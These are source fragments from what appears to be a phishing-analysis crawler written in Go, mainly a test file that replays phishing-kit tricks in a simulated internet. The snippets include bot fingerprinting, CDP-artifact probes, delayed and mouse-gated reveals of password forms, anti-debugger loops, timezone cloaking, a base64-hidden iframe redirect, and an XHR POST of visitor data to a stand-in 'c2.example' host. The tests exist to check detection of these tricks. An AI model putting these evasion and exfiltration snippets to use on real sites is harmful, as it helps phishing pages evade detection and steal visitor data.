func partialResult(requested, current string, navs []string, rec *recorder, pg *page, status int) *Result {
	return assembleResult(requested, current, navs, rec, pg, status)
}

func assembleResult(requested, final string, navs []string, rec *recorder, pg *page, status int) *Result {
	r := &Result{
		RequestedURL: requested,
		FinalURL:     final,
		Status:       status,
		Navigations:  navs,
	}
	if rec != nil {
		r.Requests = rec.requests
		r.Degraded = rec.degraded
	}
	if pg != nil {
		r.DOM = pg.doc
		r.Frames = pg.frames
		r.HTML = htmlx.Render(pg.doc)
		r.Console = pg.console
		r.Scripts = pg.scripts
		r.ScriptErrors = pg.errors
		r.DebuggerHits = pg.debuggerHits
		r.Screenshot = renderScreenshot(pg)
	}
	return r
}
