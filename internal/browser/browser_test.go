package browser

import (
	"context"

	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"crawlerbox/internal/htmlx"
	"crawlerbox/internal/imaging"
	"crawlerbox/internal/webnet"
)

var _epoch = time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)

// testWorld wires a fresh internet with one page served at phish.example.
func testWorld(t *testing.T, html string) (*webnet.Internet, *Browser) {
	t.Helper()
	net := webnet.NewInternet(webnet.NewClock(_epoch))
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("phish.example", ip)
	net.Serve("phish.example", func(req *webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte(html),
			Headers: map[string]string{"Content-Type": "text/html"}}
	})
	clientIP := net.AllocateIP(webnet.IPMobile)
	br := New(net, NotABot(), clientIP, 1)
	return net, br
}

func TestVisitBasicPage(t *testing.T) {
	_, br := testWorld(t, `<html><body><h1>Welcome</h1><p>hello</p></body></html>`)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != 200 {
		t.Errorf("status = %d", res.Status)
	}
	if res.FinalURL != "https://phish.example/" {
		t.Errorf("final = %q", res.FinalURL)
	}
	if !strings.Contains(res.HTML, "Welcome") {
		t.Errorf("HTML = %q", res.HTML)
	}
	if res.Screenshot == nil || res.Screenshot.W != 256 {
		t.Error("screenshot missing")
	}
}

func TestVisitNXDomain(t *testing.T) {
	net := webnet.NewInternet(webnet.NewClock(_epoch))
	br := New(net, NotABot(), "10.0.0.1", 1)
	_, err := br.Visit(context.Background(), "https://gone.example/x")
	if !errors.Is(err, webnet.ErrNXDomain) {
		t.Errorf("err = %v", err)
	}
}

func TestHTTPRedirectChain(t *testing.T) {
	net, br := testWorld(t, `<html><body>landing</body></html>`)
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("hop.example", ip)
	net.Serve("hop.example", func(req *webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 302,
			Headers: map[string]string{"Location": "https://phish.example/land"}}
	})
	res, err := br.Visit(context.Background(), "https://hop.example/start")
	if err != nil {
		t.Fatal(err)
	}
	if res.FinalURL != "https://phish.example/land" {
		t.Errorf("final = %q", res.FinalURL)
	}
	if len(res.Navigations) != 2 {
		t.Errorf("navigations = %v", res.Navigations)
	}
}

func TestScriptNavigationViaLocationHref(t *testing.T) {
	net, br := testWorld(t, `<html><body>
	<script>location.href = "https://next.example/step2";</script>
	</body></html>`)
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("next.example", ip)
	net.Serve("next.example", func(req *webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte("<html><body>step2</body></html>")}
	})
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if res.FinalURL != "https://next.example/step2" {
		t.Errorf("final = %q (navigations %v)", res.FinalURL, res.Navigations)
	}
}

func TestScriptNavigationViaWindowLocationAssignment(t *testing.T) {
	net, br := testWorld(t, `<html><body>
	<script>window.location = "https://next.example/w";</script>
	</body></html>`)
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("next.example", ip)
	net.Serve("next.example", func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte("<html><body>w</body></html>")}
	})
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if res.FinalURL != "https://next.example/w" {
		t.Errorf("final = %q", res.FinalURL)
	}
}

func TestMetaRefreshNavigation(t *testing.T) {
	net, br := testWorld(t, `<html><head>
	<meta http-equiv="refresh" content="0; url=https://next.example/meta">
	</head><body>redirecting</body></html>`)
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("next.example", ip)
	net.Serve("next.example", func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte("<html><body>meta-landed</body></html>")}
	})
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if res.FinalURL != "https://next.example/meta" {
		t.Errorf("final = %q", res.FinalURL)
	}
}

func TestRedirectLoopBounded(t *testing.T) {
	net := webnet.NewInternet(webnet.NewClock(_epoch))
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("loop.example", ip)
	net.Serve("loop.example", func(req *webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 302,
			Headers: map[string]string{"Location": "https://loop.example" + req.Path + "x"}}
	})
	br := New(net, NotABot(), "10.0.0.1", 1)
	_, err := br.Visit(context.Background(), "https://loop.example/a")
	if !errors.Is(err, ErrTooManyRedirects) {
		t.Errorf("err = %v", err)
	}
}

func TestFingerprintSurfaceExposedToScripts(t *testing.T) {
	html := `<html><body><script>
	var fp = [
		navigator.userAgent,
		navigator.webdriver,
		navigator.language,
		navigator.plugins.length,
		screen.width + "x" + screen.height,
		Intl.DateTimeFormat().resolvedOptions().timeZone,
		typeof chrome
	].join("|");
	console.log(fp);
	</script></body></html>`
	_, br := testWorld(t, html)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Console) != 1 {
		t.Fatalf("console = %v", res.Console)
	}
	line := res.Console[0]
	for _, want := range []string{"Chrome/121", "false", "en-US", "5", "1920x1080", "Europe/Paris", "object"} {
		if !strings.Contains(line, want) {
			t.Errorf("fingerprint line %q missing %q", line, want)
		}
	}
}

func TestHeadlessProfileObservable(t *testing.T) {
	html := `<html><body><script>
	console.log(navigator.userAgent + "|" + navigator.webdriver + "|" +
		navigator.plugins.length + "|" + typeof chrome);
	</script></body></html>`
	net, _ := testWorld(t, html)
	p := HumanChrome()
	p.Name = "headless-bot"
	p.UserAgent = _headlessUA
	p.Headless = true
	p.WebdriverFlag = true
	p.ChromeObject = false
	p.PluginCount = 0
	br := New(net, p, "10.0.0.2", 2)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	line := res.Console[0]
	for _, want := range []string{"HeadlessChrome", "true", "|0|", "undefined"} {
		if !strings.Contains(line, want) {
			t.Errorf("headless fingerprint %q missing %q", line, want)
		}
	}
}

func TestCDPArtifactsVisible(t *testing.T) {
	html := `<html><body><script>
	console.log(typeof cdc_adoQpoasnfa76pfcZLmcfl_Array);
	</script></body></html>`
	net, _ := testWorld(t, html)
	p := HumanChrome()
	p.CDPArtifacts = true
	br := New(net, p, "10.0.0.3", 3)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if res.Console[0] != "log: object" {
		t.Errorf("cdc artifact probe = %q", res.Console[0])
	}
	// And absent on a clean profile.
	br2 := New(net, NotABot(), "10.0.0.4", 4)
	res2, err := br2.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if res2.Console[0] != "log: undefined" {
		t.Errorf("clean profile probe = %q", res2.Console[0])
	}
}

func TestDelayedRevealTimer(t *testing.T) {
	// Bot-behavior cloaking: content appears only after a 5-second timer.
	html := `<html><body><div id="gate">checking...</div><script>
	setTimeout(function() {
		document.getElementById("gate").setInnerHTML('<a href="https://evil.example/real">enter</a>');
		console.log("revealed");
	}, 5000);
	</script></body></html>`
	_, br := testWorld(t, html)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Console) != 1 || res.Console[0] != "log: revealed" {
		t.Fatalf("console = %v", res.Console)
	}
	if len(htmlx.Find(res.DOM, "a")) != 1 {
		t.Errorf("delayed anchor missing from final DOM: %q", res.HTML)
	}
	// An impatient crawler (short event-loop window) misses it.
	_, br2 := testWorld(t, html)
	br2.EventLoopWindow = time.Second
	res2, err := br2.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(htmlx.Find(res2.DOM, "a")) != 0 {
		t.Error("impatient crawler should have missed the delayed reveal")
	}
}

func TestIntervalTimerAndClear(t *testing.T) {
	html := `<html><body><script>
	var n = 0;
	var id = setInterval(function() {
		n++;
		if (n >= 3) { clearInterval(id); console.log("done:" + n); }
	}, 1000);
	</script></body></html>`
	_, br := testWorld(t, html)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Console) != 1 || res.Console[0] != "log: done:3" {
		t.Errorf("console = %v", res.Console)
	}
}

func TestDebuggerTimerPattern(t *testing.T) {
	// The anti-debugging loop from the corpus (>=10 messages): a recurring
	// timer that invokes `debugger` each second.
	html := `<html><body><script>
	setInterval(function() {
		var t1 = Date.now();
		debugger;
		var t2 = Date.now();
		if (t2 - t1 > 100) { console.log("debugger-detected"); }
	}, 1000);
	</script></body></html>`
	_, br := testWorld(t, html)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if res.DebuggerHits == 0 {
		t.Error("debugger statements should have fired")
	}
	for _, line := range res.Console {
		if strings.Contains(line, "debugger-detected") {
			t.Error("virtual clock must not trip the debugger-time check")
		}
	}
}

func TestMouseMovementGatedContent(t *testing.T) {
	// User-interaction cloaking: reveal only on a trusted mousemove.
	html := `<html><body><script>
	document.addEventListener("mousemove", function(e) {
		if (e.isTrusted) {
			document.body.setInnerHTML('<form><input type="password" name="pw"></form>');
			console.log("gate-open");
		}
	});
	</script></body></html>`
	_, br := testWorld(t, html) // NotABot: trusted mouse movement
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res.DOM) {
		t.Error("trusted mousemove should reveal the password form")
	}
	// A crawler without mouse movement never triggers the gate.
	net, _ := testWorld(t, html)
	still := HumanChrome()
	still.MouseMovement = false
	br2 := New(net, still, "10.0.0.9", 5)
	res2, err := br2.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res2.DOM) {
		t.Error("no mouse movement: gate must stay closed")
	}
	// A crawler with untrusted synthetic events also fails.
	net3, _ := testWorld(t, html)
	untrusted := HumanChrome()
	untrusted.TrustedEvents = false
	br3 := New(net3, untrusted, "10.0.0.10", 6)
	res3, err := br3.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res3.DOM) {
		t.Error("untrusted events: gate must stay closed")
	}
}

func TestXHRExfiltration(t *testing.T) {
	// Server-side cloaking support: page sends client data to a C2.
	var captured string
	net, br := testWorld(t, `<html><body><script>
	var xhr = new XMLHttpRequest();
	xhr.open("POST", "https://c2.example/collect", false);
	xhr.send(JSON.stringify({ua: navigator.userAgent, lang: navigator.language}));
	console.log("status:" + xhr.status);
	</script></body></html>`)
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("c2.example", ip)
	net.Serve("c2.example", func(req *webnet.Request) *webnet.Response {
		captured = req.Body
		return &webnet.Response{Status: 200, Body: []byte("ok")}
	})
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if res.Console[len(res.Console)-1] != "log: status:200" {
		t.Errorf("console = %v", res.Console)
	}
	if !strings.Contains(captured, "Chrome/121") || !strings.Contains(captured, "en-US") {
		t.Errorf("exfiltrated payload = %q", captured)
	}
}

func TestExternalScriptAndSubresources(t *testing.T) {
	net, br := testWorld(t, `<html><head>
	<script src="https://cdn.example/lib.js"></script>
	</head><body>
	<img src="https://brand.example/logo.png">
	</body></html>`)
	for _, host := range []string{"cdn.example", "brand.example"} {
		h := host
		ip := net.AllocateIP(webnet.IPDatacenter)
		net.AddDNS(h, ip)
		net.Serve(h, func(req *webnet.Request) *webnet.Response {
			if h == "cdn.example" {
				return &webnet.Response{Status: 200, Body: []byte(`console.log("lib loaded");`)}
			}
			return &webnet.Response{Status: 200, Body: []byte("png-bytes")}
		})
	}
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Console) == 0 || res.Console[0] != "log: lib loaded" {
		t.Errorf("console = %v", res.Console)
	}
	var sawImg, sawScript bool
	for _, r := range res.Requests {
		if r.Initiator == "img" && strings.Contains(r.URL, "logo.png") {
			sawImg = true
			if r.Referer != "https://phish.example/" {
				t.Errorf("img referer = %q", r.Referer)
			}
		}
		if r.Initiator == "script" {
			sawScript = true
		}
	}
	if !sawImg || !sawScript {
		t.Errorf("requests = %+v", res.Requests)
	}
}

func TestIframeContentParsed(t *testing.T) {
	net, br := testWorld(t, `<html><body>
	<iframe src="https://inner.example/form"></iframe>
	</body></html>`)
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("inner.example", ip)
	net.Serve("inner.example", func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200,
			Body: []byte(`<html><body><form><input type="password"></form></body></html>`)}
	})
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Frames) != 1 {
		t.Fatalf("frames = %d", len(res.Frames))
	}
	if !htmlx.HasPasswordInput(res.Frames[0]) {
		t.Error("iframe password form not detected")
	}
}

func TestCookieRoundTrip(t *testing.T) {
	var gotCookie string
	net := webnet.NewInternet(webnet.NewClock(_epoch))
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("cookie.example", ip)
	visits := 0
	net.Serve("cookie.example", func(req *webnet.Request) *webnet.Response {
		visits++
		gotCookie = req.Header("Cookie")
		return &webnet.Response{Status: 200,
			Headers: map[string]string{"Set-Cookie": "session=tok123; Path=/"},
			Body:    []byte("<html><body>hi</body></html>")}
	})
	br := New(net, NotABot(), "10.0.0.1", 1)
	if _, err := br.Visit(context.Background(), "https://cookie.example/"); err != nil {
		t.Fatal(err)
	}
	if gotCookie != "" {
		t.Errorf("first visit sent cookie %q", gotCookie)
	}
	if _, err := br.Visit(context.Background(), "https://cookie.example/"); err != nil {
		t.Fatal(err)
	}
	if gotCookie != "session=tok123" {
		t.Errorf("second visit cookie = %q", gotCookie)
	}
	// Cookie-disabled profiles never store.
	p := HumanChrome()
	p.CookiesEnabled = false
	br2 := New(net, p, "10.0.0.2", 2)
	if _, err := br2.Visit(context.Background(), "https://cookie.example/"); err != nil {
		t.Fatal(err)
	}
	if _, err := br2.Visit(context.Background(), "https://cookie.example/"); err != nil {
		t.Fatal(err)
	}
	if gotCookie != "" {
		t.Errorf("cookie-disabled profile sent %q", gotCookie)
	}
}

func TestInterceptionCacheQuirkHeaderSurface(t *testing.T) {
	var cc, pragma string
	net := webnet.NewInternet(webnet.NewClock(_epoch))
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("headers.example", ip)
	net.Serve("headers.example", func(req *webnet.Request) *webnet.Response {
		cc = req.Header("Cache-Control")
		pragma = req.Header("Pragma")
		return &webnet.Response{Status: 200, Body: []byte("<html></html>")}
	})
	quirky := HumanChrome()
	quirky.InterceptionCacheQuirk = true
	br := New(net, quirky, "10.0.0.1", 1)
	if _, err := br.Visit(context.Background(), "https://headers.example/"); err != nil {
		t.Fatal(err)
	}
	if cc != "no-cache" || pragma != "no-cache" {
		t.Errorf("quirk headers = %q/%q", cc, pragma)
	}
	br2 := New(net, NotABot(), "10.0.0.2", 2)
	if _, err := br2.Visit(context.Background(), "https://headers.example/"); err != nil {
		t.Fatal(err)
	}
	if cc != "" || pragma != "" {
		t.Errorf("NotABot leaked quirk headers: %q/%q", cc, pragma)
	}
}

func TestLoadHTMLAttachmentLocalRedirect(t *testing.T) {
	// Section V-B: HTML attachment opened locally builds an iframe to the
	// phishing site without changing the window URL.
	net := webnet.NewInternet(webnet.NewClock(_epoch))
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("target.example", ip)
	net.Serve("target.example", func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200,
			Body: []byte(`<html><body><form><input type="password"></form></body></html>`)}
	})
	html := `<html><body><script>
	var target = atob("aHR0cHM6Ly90YXJnZXQuZXhhbXBsZS9sb2dpbg==");
	document.body.setInnerHTML('<iframe src="' + target + '"></iframe>');
	</script></body></html>`
	br := New(net, NotABot(), "10.0.0.1", 1)
	res, err := br.LoadHTML(context.Background(), html, "invoice.html")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(res.FinalURL, "file:///") {
		t.Errorf("window URL should stay local, got %q", res.FinalURL)
	}
	var fetchedTarget bool
	for _, r := range res.Requests {
		if strings.Contains(r.URL, "target.example") {
			fetchedTarget = true
		}
	}
	if !fetchedTarget {
		t.Errorf("iframe target never fetched: %+v", res.Requests)
	}
}

func TestLoadHTMLAttachmentWindowRedirect(t *testing.T) {
	net := webnet.NewInternet(webnet.NewClock(_epoch))
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("away.example", ip)
	net.Serve("away.example", func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte("<html><body>away</body></html>")}
	})
	html := `<html><body><script>location.href = "https://away.example/x";</script></body></html>`
	br := New(net, NotABot(), "10.0.0.1", 1)
	res, err := br.LoadHTML(context.Background(), html, "doc.html")
	if err != nil {
		t.Fatal(err)
	}
	if res.FinalURL != "https://away.example/x" {
		t.Errorf("final = %q", res.FinalURL)
	}
}

func TestScreenshotDeterministicAndStyled(t *testing.T) {
	html := `<html><body>
	<div style="background:#1a3c8c;height:28px;color:white">ACME TRAVEL</div>
	<form>
	<input type="email" placeholder="email">
	<input type="password" placeholder="password">
	<button style="background:#1a3c8c;color:white">SIGN IN</button>
	</form>
	</body></html>`
	_, br1 := testWorld(t, html)
	res1, err := br1.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	_, br2 := testWorld(t, html)
	res2, err := br2.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if !res1.Screenshot.Equal(res2.Screenshot) {
		t.Error("identical pages must render identical screenshots")
	}
	// The banner color must actually appear.
	var sawBanner bool
	for _, p := range res1.Screenshot.Pix {
		if p == (imaging.RGB{R: 0x1a, G: 0x3c, B: 0x8c}) {
			sawBanner = true
			break
		}
	}
	if !sawBanner {
		t.Error("banner background color not rendered")
	}
}

func TestHueRotateEvasionAffectsScreenshotNotHashes(t *testing.T) {
	plain := `<html><body>
	<div style="background:#1a3c8c;height:28px;color:white">ACME TRAVEL</div>
	<input type="password" placeholder="pw">
	</body></html>`
	rotated := `<html><head><script>
	document.documentElement.style.filter = "hue-rotate(4deg)";
	</script></head><body>
	<div style="background:#1a3c8c;height:28px;color:white">ACME TRAVEL</div>
	<input type="password" placeholder="pw">
	</body></html>`
	_, br1 := testWorld(t, plain)
	res1, err := br1.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	_, br2 := testWorld(t, rotated)
	res2, err := br2.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if res1.Screenshot.Equal(res2.Screenshot) {
		t.Error("hue-rotate must change raw pixels")
	}
	m := imaging.DefaultMatcher()
	ok, dp, dd := m.Match(imaging.Sign(res1.Screenshot), imaging.Sign(res2.Screenshot))
	if !ok {
		t.Errorf("fuzzy hashes must survive hue-rotate: pHash=%d dHash=%d", dp, dd)
	}
}

func TestConsoleHijackRecorded(t *testing.T) {
	html := `<html><body><script>
	console.log("visible");
	console.log = function() {};
	console.log("suppressed");
	</script></body></html>`
	_, br := testWorld(t, html)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Console) != 1 || res.Console[0] != "log: visible" {
		t.Errorf("console = %v", res.Console)
	}
}

func TestScriptErrorIsolated(t *testing.T) {
	html := `<html><body>
	<script>thisWillThrow();</script>
	<script>console.log("second script still runs");</script>
	</body></html>`
	_, br := testWorld(t, html)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.ScriptErrors) != 1 {
		t.Errorf("script errors = %v", res.ScriptErrors)
	}
	if len(res.Console) != 1 || res.Console[0] != "log: second script still runs" {
		t.Errorf("console = %v", res.Console)
	}
}

func TestPerformanceNowVMSkew(t *testing.T) {
	html := `<html><body><script>
	var t0 = performance.now();
	var x = 0;
	for (var i = 0; i < 10000; i++) { x += i; }
	var t1 = performance.now();
	console.log("elapsed:" + (t1 - t0));
	</script></body></html>`
	net, _ := testWorld(t, html)
	phys := New(net, NotABot(), "10.0.0.1", 1)
	resPhys, err := phys.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	vmProfile := HumanChrome()
	vmProfile.VMTimingSkew = 4.0
	vm := New(net, vmProfile, "10.0.0.2", 2)
	resVM, err := vm.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	ePhys := parseElapsed(t, resPhys.Console)
	eVM := parseElapsed(t, resVM.Console)
	if ePhys <= 0 {
		t.Fatalf("physical elapsed = %v", ePhys)
	}
	if eVM < ePhys*2 {
		t.Errorf("VM skew not observable: phys=%v vm=%v", ePhys, eVM)
	}
}

func parseElapsed(t *testing.T, console []string) float64 {
	t.Helper()
	for _, line := range console {
		if strings.HasPrefix(line, "log: elapsed:") {
			var v float64
			if _, err := fmt.Sscanf(strings.TrimPrefix(line, "log: elapsed:"), "%g", &v); err == nil {
				return v
			}
		}
	}
	t.Fatalf("no elapsed line in %v", console)
	return 0
}

func TestUserAgentTimezoneLanguageCloak(t *testing.T) {
	// The 15-message cloak from Section V-C2a: UA + timezone + language
	// consistency check before revealing content.
	html := `<html><body><script>
	var ua = navigator.userAgent;
	var tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
	var lang = navigator.language;
	if (ua.indexOf("Chrome") >= 0 && tz === "Europe/Paris" && lang === "en-US") {
		document.body.setInnerHTML('<input type="password" name="pw">');
	} else {
		document.body.setInnerHTML("<p>Nothing to see</p>");
	}
	</script></body></html>`
	_, br := testWorld(t, html)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res.DOM) {
		t.Error("consistent profile should pass the cloak")
	}
	net, _ := testWorld(t, html)
	odd := HumanChrome()
	odd.Timezone = "UTC"
	br2 := New(net, odd, "10.0.0.5", 5)
	res2, err := br2.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res2.DOM) {
		t.Error("timezone-inconsistent profile should see the benign page")
	}
}

func TestDocumentWrite(t *testing.T) {
	_, br := testWorld(t, `<html><body><script>
	document.write('<a href="https://written.example/x">link</a>');
	</script></body></html>`)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(htmlx.Find(res.DOM, "a")) != 1 {
		t.Errorf("document.write content missing: %s", res.HTML)
	}
}

func TestCreateElementAppendChildScript(t *testing.T) {
	// Dynamic script injection: the kit pattern of assembling a <script>
	// element and appending it.
	net, br := testWorld(t, `<html><body><script>
	var s = document.createElement("script");
	s.setAttribute("src", "https://cdn2.example/payload.js");
	document.body.appendChild(s);
	</script></body></html>`)
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("cdn2.example", ip)
	net.Serve("cdn2.example", func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte(`console.log("injected ran");`)}
	})
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	var ran bool
	for _, line := range res.Console {
		if strings.Contains(line, "injected ran") {
			ran = true
		}
	}
	if !ran {
		t.Errorf("dynamically appended script did not execute: console=%v errors=%v",
			res.Console, res.ScriptErrors)
	}
}

func TestXHROnloadCallback(t *testing.T) {
	net, br := testWorld(t, `<html><body><script>
	var x = new XMLHttpRequest();
	x.open("GET", "https://api.example/data", true);
	x.onload = function() { console.log("got:" + this.responseText); };
	x.send();
	</script></body></html>`)
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("api.example", ip)
	net.Serve("api.example", func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte("payload123")}
	})
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Console) != 1 || !strings.Contains(res.Console[0], "got:payload123") {
		t.Errorf("console = %v", res.Console)
	}
}

func TestRelativeURLResolution(t *testing.T) {
	net, br := testWorld(t, `<html><body>
	<img src="/assets/pic.png">
	<script src="lib/app.js"></script>
	</body></html>`)
	_ = net
	res, err := br.Visit(context.Background(), "https://phish.example/portal/login")
	if err != nil {
		t.Fatal(err)
	}
	var sawAbs, sawRel bool
	for _, r := range res.Requests {
		if r.URL == "https://phish.example/assets/pic.png" {
			sawAbs = true
		}
		if r.URL == "https://phish.example/portal/lib/app.js" {
			sawRel = true
		}
	}
	if !sawAbs || !sawRel {
		t.Errorf("relative resolution failed: %+v", res.Requests)
	}
}

func TestGetElementsByTagName(t *testing.T) {
	_, br := testWorld(t, `<html><body>
	<a href="/1">one</a><a href="/2">two</a>
	<script>console.log("anchors:" + document.getElementsByTagName("a").length);</script>
	</body></html>`)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Console) != 1 || res.Console[0] != "log: anchors:2" {
		t.Errorf("console = %v", res.Console)
	}
}

func TestLocationPartsExposed(t *testing.T) {
	_, br := testWorld(t, `<html><body><script>
	console.log(location.hostname + "|" + location.pathname + "|" + location.search + "|" + location.hash);
	</script></body></html>`)
	res, err := br.Visit(context.Background(), "https://phish.example/p/q?a=1#frag")
	if err != nil {
		t.Fatal(err)
	}
	if res.Console[0] != "log: phish.example|/p/q|?a=1|#frag" {
		t.Errorf("location parts = %v", res.Console)
	}
}

func TestNestedIframeDepthBounded(t *testing.T) {
	// A self-embedding iframe chain must terminate at the depth cap
	// rather than recursing forever.
	net := webnet.NewInternet(webnet.NewClock(_epoch))
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("recursive.example", ip)
	net.Serve("recursive.example", func(req *webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte(
			`<html><body><iframe src="https://recursive.example/again"></iframe></body></html>`)}
	})
	br := New(net, NotABot(), "10.0.0.1", 1)
	res, err := br.Visit(context.Background(), "https://recursive.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Frames) > 8 {
		t.Errorf("frames = %d, recursion not bounded", len(res.Frames))
	}
}
