package browser

import (
	"sort"
	"strings"
	"time"

	"crawlerbox/internal/minijs"
	"crawlerbox/internal/webnet"
)

// timer is one scheduled callback in the page's virtual event loop.
type timer struct {
	id        int
	due       time.Time
	fn        minijs.Value
	interval  time.Duration
	repeating bool
	cancelled bool
}

type handlerEntry struct {
	nodeKey any // *htmlx.Node or nil for document/window level
	fn      minijs.Value
}

// setupEnvironment installs the browser-shaped global environment for a
// page: window, navigator, screen, location, document, timers, console,
// performance, XMLHttpRequest, and Intl.
func (pg *page) setupEnvironment() {
	ip := pg.interp
	prof := pg.br.Profile

	// Virtual clock feeds Date.now().
	ip.Now = func() float64 {
		return float64(pg.br.clock().Now().UnixMilli())
	}
	ip.Random = pg.br.random
	ip.OnDebugger = func() { pg.debuggerHits++ }

	// console: plain object so scripts can hijack its methods, a corpus
	// behavior seen on 295+ messages.
	console := minijs.NewObject()
	for _, level := range []string{"log", "warn", "error", "info", "debug"} {
		lv := level
		console.Set(lv, minijs.NewHostFunc(func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
			parts := make([]string, len(args))
			for i, a := range args {
				parts[i] = a.ToString()
			}
			pg.console = append(pg.console, lv+": "+strings.Join(parts, " "))
			return minijs.Undefined, nil
		}))
	}
	ip.SetGlobal("console", minijs.ObjectValue(console))

	// navigator.
	nav := minijs.NewObject()
	nav.Set("userAgent", minijs.String(prof.UserAgent))
	nav.Set("webdriver", minijs.Bool(prof.WebdriverFlag))
	nav.Set("language", minijs.String(prof.Language))
	langs := minijs.NewArray()
	for _, l := range prof.Languages {
		langs.Elems = append(langs.Elems, minijs.String(l))
	}
	nav.Set("languages", minijs.ObjectValue(langs))
	nav.Set("platform", minijs.String(prof.Platform))
	nav.Set("cookieEnabled", minijs.Bool(prof.CookiesEnabled))
	plugins := minijs.NewArray()
	names := prof.PluginNames
	for i := 0; i < prof.PluginCount; i++ {
		p := minijs.NewObject()
		name := "Plugin " + string(rune('A'+i%26))
		if i < len(names) {
			name = names[i]
		}
		p.Set("name", minijs.String(name))
		plugins.Elems = append(plugins.Elems, minijs.ObjectValue(p))
	}
	nav.Set("plugins", minijs.ObjectValue(plugins))
	nav.Set("hardwareConcurrency", minijs.Number(8))
	ip.SetGlobal("navigator", minijs.ObjectValue(nav))

	// screen.
	screen := minijs.NewObject()
	screen.Set("width", minijs.Number(float64(prof.ScreenW)))
	screen.Set("height", minijs.Number(float64(prof.ScreenH)))
	screen.Set("availWidth", minijs.Number(float64(prof.ScreenW)))
